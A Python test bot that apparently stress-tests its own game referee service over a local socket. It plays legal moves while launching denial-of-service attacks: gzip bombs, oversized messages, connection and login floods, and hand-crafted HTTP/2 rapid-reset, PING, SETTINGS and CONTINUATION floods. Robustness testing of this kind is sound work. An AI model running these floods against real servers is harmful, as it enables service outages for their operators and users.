"""Attacks on the referee over the bot's own socket, beside a line on which it plays soundly."""

import os
import queue
import socket
import struct
import sys

import grpc
from attack import TARGETS, outcome_of, tell
from siurell.v1 import referee_service_pb2 as pb

MIB = 1 << 20
ADDRESS, TOKEN = os.environ["SIURELL_ADDRESS"], os.environ["SIURELL_TOKEN"]
PATH = ADDRESS.removeprefix("unix:")
METHOD = "/siurell.v1.RefereeService/PlaySeat"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
MOST = [("grpc.max_send_message_length", -1), ("grpc.max_metadata_size", 4 * MIB)]
WITHIN_S = 20


class Line:
    """Messages in and out, without the SDK's manners."""

    def __init__(self, token=TOKEN, **call):
        self._out = queue.SimpleQueue()
        # Each line has a connection of its own.
        self._channel = grpc.insecure_channel(
            ADDRESS, options=[*MOST, ("grpc.use_local_subchannel_pool", 1)]
        )
        self.call = self._channel.stream_stream(
            METHOD,
            request_serializer=lambda data: data,
            response_deserializer=pb.PlaySeatResponse.FromString,
        )(iter(self._out.get, None), timeout=WITHIN_S * 6, **call)
        self._token = token

    def hello(self):
        hello = pb.Hello(token=self._token, protocol=1, sdk="raw/0", legal_moves=True)
        self.send(hello=hello)

    def send(self, **message):
        self.send_bytes(pb.PlaySeatRequest(**message).SerializeToString())

    def send_bytes(self, data):
        self._out.put(data)

    def ready(self, welcome):
        self.send(ready=pb.Ready(match_id=welcome.match_id))

    def answer(self, ask):
        answer = pb.Decision(
            match_id=ask.match_id, decision_id=ask.decision_id, move=ask.legal_moves[0]
        )
        self.send(decision=answer)

    def __iter__(self):
        for message in self.call:
            kind = message.WhichOneof("message")
            yield kind, getattr(message, kind)

    def until(self, wanted):
        """Read on to the first message of a kind, getting ready on the way."""
        for kind, message in self:
            if kind == wanted:
                return message
            if kind == "welcome":
                self.ready(message)
        raise ConnectionError("the line ended")

    def end(self):
        self._out.put(None)
        self.call.cancel()
        self._channel.close()

    def fate(self):
        """How the line ends: name of the status."""
        try:
            for _ in self.call:
                pass
        except grpc.RpcError as error:
            return error.code().name
        return "OK"


def play(on_first_ask):
    """Log in again when the line is cut; attack when asked for the first time."""
    attacked = False
    while True:
        line = Line()
        line.hello()
        try:
            for kind, message in line:
                if kind == "welcome":
                    line.ready(message)
                elif kind == "ask":
                    if not attacked:
                        attacked = True
                        tell(on_first_ask.__name__, outcome_of(lambda: on_first_ask(line, message)))  # noqa: B023
                    line.answer(message)
        except grpc.RpcError as error:
            tell("cut", error.code().name)
            if error.code() in (grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.UNAUTHENTICATED):
                return
        else:
            return
        finally:
            line.end()


# ---------------------------------------------------------------------------- too much at once


def _big(line, size):
    line.send_bytes(bytes(size))
    return line.fate()


def message_of_3_mib(line, _):
    return _big(line, 3 * MIB)


def message_of_200_mib(line, _):
    return _big(line, 200 * MIB)


def gzip_bomb(*_):
    """Zeros that become a thousandth when they are packed: the referee is to unpack them."""
    bomb = Line(compression=grpc.Compression.Gzip)
    bomb.hello()
    return _big(bomb, 32 * MIB)


def metadata_of_1_mib(*_):
    return Line(metadata=(("noise", "x" * MIB),)).fate()


def streams_without_end(*_):
    """More streams than it may have, none of which says hello."""
    lines = [Line() for _ in range(20)]
    for line in lines:
        line.end()
    return len(lines)


def logins_without_end(*_):
    """Each is the newest for a moment; how many there were until none was welcome."""
    for number in range(300):
        line = Line()
        line.hello()
        try:
            line.ready(line.until("welcome"))
            line.until("ask")
        except (grpc.RpcError, ConnectionError):
            return number
        finally:
            line.end()
    return 300


# --------------------------------------------------------------------------- below the messages


def _frame(kind, flags, stream, data=b""):
    return struct.pack(">I", len(data))[1:] + struct.pack(">BBI", kind, flags, stream) + data


def _headers(stream, flags=4):
    """A call of `PlaySeat`, each field in full (RFC 7541, 6.2.2)."""
    fields = {":method": "POST", ":scheme": "http", ":path": METHOD, ":authority": "localhost"}
    fields |= {"content-type": "application/grpc", "te": "trailers"}
    words = [(name.encode(), value.encode()) for name, value in fields.items()]
    data = b"".join(
        b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in words
    )
    return _frame(HEADERS, flags, stream, data)


def _raw(data):
    """Send bytes on a connection of its own; how much the referee took, if it cut it short."""
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(WITHIN_S)
        line.connect(PATH)
        try:
            line.sendall(PREFACE + _frame(SETTINGS, 0, 0) + data)
            line.shutdown(socket.SHUT_WR)
            while line.recv(1 << 16):
                pass
        except TimeoutError:
            return "not cut"
        except OSError:
            return "cut"
    return "ended"


def streams_opened_and_reset(*_):
    """Thousands of calls that are taken back at once."""
    streams = range(1, 6001, 2)
    return _raw(b"".join(_headers(n) + _frame(RST, 0, n, b"\0\0\0\x08") for n in streams))


def pings_without_end(*_):
    return _raw(_frame(PING, 0, 0, bytes(8)) * 20_000)


def settings_without_end(*_):
    return _raw(_frame(SETTINGS, 0, 0) * 20_000)


def headers_without_end(*_):
    """A call whose headers go on and on."""
    return _raw(_headers(1, flags=0) + _frame(CONTINUATION, 0, 1, b"\0\1x\x7f" + b"y" * 120) * 5000)


def empty_data_without_end(*_):
    return _raw(_headers(1) + _frame(DATA, 0, 1) * 20_000)


def frames_that_are_none(*_):
    return _raw(os.urandom(1 << 18))


def another_protocol(*_):
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(WITHIN_S)
        line.connect(PATH)
        line.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n" * 1000)
        try:
            while line.recv(1 << 16):
                pass
        except OSError:
            return "cut"
    return "ended"


def connections_half_open(*_):
    """800 that say nothing or only the first word, held to the end; those that were not taken."""
    held, refused = [], 0
    for number in range(800):
        line = socket.socket(socket.AF_UNIX)
        line.settimeout(2)
        try:
            line.connect(PATH)
            if number % 2:
                line.sendall(PREFACE + _frame(SETTINGS, 0, 0))
        except OSError:
            refused += 1
        held.append(line)
    KEPT.extend(held)
    return len(held)


KEPT = []


# ------------------------------------------------------------------------------- steps and tokens


def close_at_each_step(line, ask):
    """Hang up before hello, after it, after the welcome, when ready, when asked, and answering."""
    steps = []
    for step in ("nothing", "hello", "welcome", "ready", "ask", "answer"):
        line = Line()
        if step != "nothing":
            line.hello()
        if step not in ("nothing", "hello"):
            welcome = line.until("welcome")
        if step in ("ready", "ask", "answer"):
            line.ready(welcome)
        if step in ("ask", "answer"):
            asked = line.until("ask")
        if step == "answer":
            line.answer(asked)
        line.end()
        steps.append(step)
    return steps


def bad_tokens(*_):
    """A guess, none, one that is too long, and one that is no text of a token."""
    tokens = ("siu_guess", "", "x" * 4096, "\0\n\x1b", TARGETS.get("token", "siu_"))
    fates = []
    for token in tokens:
        line = Line(token)
        line.hello()
        fates.append(line.fate())
        line.end()
    return fates


def token_twice(line, ask):
    """A second process with the same token has the seat; the first one is told and comes back."""
    second = Line()
    second.hello()
    second.until("welcome")
    return line.fate()


ATTACKS = {
    attack.__name__: attack
    for attack in (
        message_of_3_mib,
        message_of_200_mib,
        gzip_bomb,
        metadata_of_1_mib,
        streams_without_end,
        logins_without_end,
        streams_opened_and_reset,
        pings_without_end,
        settings_without_end,
        headers_without_end,
        empty_data_without_end,
        frames_that_are_none,
        another_protocol,
        connections_half_open,
        close_at_each_step,
        bad_tokens,
        token_twice,
    )
}


def all_that_are_chosen(line, ask):
    """One attack after the other, in one bot."""
    for name in sys.argv[1].split(","):
        tell(name, outcome_of(lambda name=name: ATTACKS[name](line, ask)))


play(all_that_are_chosen)
